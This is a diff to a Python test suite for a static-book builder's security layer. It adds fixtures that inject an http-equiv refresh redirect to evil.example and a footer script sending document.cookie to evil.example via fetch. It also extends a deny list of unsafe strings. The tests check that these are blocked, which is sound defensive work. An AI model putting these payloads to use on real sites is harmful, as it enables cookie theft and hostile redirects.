@@ -41,8 +41,14 @@ ATTACKS = [
     ("```{raw} html", "raw: '../secret.txt' resolves outside book/"),
     ("```{csv-table}", ":url: is refused"),
     ('<div title="open', "raw HTML ends inside an unfinished tag"),
+    ('"http-equiv=refresh"', "html_meta 'http-equiv' is not allowed"),
 ]
 ATTACK_MD = """\
+---
+myst:
+  html_meta:
+    "http-equiv=refresh": "0; url=https://evil.example/"
+---
 # Attack
 
 Intro.
@@ -139,7 +145,7 @@ def test_build_fails_and_nothing_secret_or_unsafe_is_published(built):
         if path.is_file() and path.suffix in (".html", ".txt", ".png", ".js", ".csv", ""):
             assert SECRET not in path.read_text(errors="replace"), f"{path} holds the secret"
     page = (out / "attack.html").read_text()
-    for bad in ("onerror", "<iframe", "evil.example", "javascript:", "<style>p", "alert(3)"):
+    for bad in ("onerror", "<iframe", "evil.example", "javascript:", "<style>p", "alert(3)", "refresh"):
         assert bad not in page, bad
     assert '<span class="ok">kept</span>' in page and "https://example.org/" in page
 
@@ -163,11 +169,17 @@ def test_every_page_has_the_policy_and_no_inline_handler(built):
 
 
 def test_policy_rewires_theme_handlers_and_reports_others():
-    page = ('<html><head><meta charset="utf-8" /><script>var a = 1;</script></head><body>'
-            '<button onclick="window.print()">p</button><a onmouseover="x()">y</a></body></html>')
-    secured, handlers = security.secure_page(page, "https://utteranc.es")
+    page = ('<html><head><meta charset="utf-8" /><script>DOCUMENTATION_OPTIONS.pagename = \'x\';</script>'
+            '<script type="application/json">{"a": 1}</script></head><body>'
+            '<button onclick="window.print()">p</button><a onmouseover="x()">y</a>'
+            '<footer><script>fetch("https://evil.example/?c=" + document.cookie)</script></footer></body></html>')
+    secured, blocked = security.secure_page(page, "https://utteranc.es")
     assert 'data-bookkit-action="print"' in secured and "window.print()" not in secured
-    assert handlers == ["onmouseover"]
+    assert blocked[0] == "inline event handler onmouseover="
+    assert blocked[1].startswith("inline script 'fetch(") and len(blocked) == 2
+    # Only the known script is hashed: the injected one stays blocked by the browser.
+    assert security.script_hashes(page) == security.script_hashes(
+        "<script>DOCUMENTATION_OPTIONS.pagename = 'x';</script>")
     assert "frame-src https://utteranc.es;" in secured
     assert "script-src 'self' https://utteranc.es 'sha256-" in secured
     # Idempotent: a second pass keeps one policy.
